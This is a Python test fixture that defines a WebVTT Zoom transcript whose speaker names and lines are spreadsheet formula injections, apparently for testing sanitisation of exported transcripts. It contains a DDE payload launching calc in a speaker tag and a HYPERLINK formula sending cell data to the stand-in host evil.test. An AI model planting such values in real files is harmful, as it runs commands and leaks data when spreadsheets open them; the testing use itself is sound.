from __future__ import annotations

from pathlib import Path

SAMPLES = Path(__file__).resolve().parent / "samples"

# A Zoom call whose participants and words a spreadsheet would run as formulas.
HOSTILE_CALL = """WEBVTT

1
00:00:01.000 --> 00:00:04.000
<v =cmd|' /C calc'!A0>Thanks for joining, this went really well.

2
00:00:04.000 --> 00:00:08.000
<v Dana Whitfield>-2+3 is what the invoice said, which is awful.

3
00:00:08.000 --> 00:00:10.000
<v @Sam>+1 from me, great call.

4
00:00:10.000 --> 00:00:12.000
=HYPERLINK("http://evil.test/?q="&A1,"details"): see you all tomorrow.
"""


def sample_path(name: str) -> Path:
    return SAMPLES / name
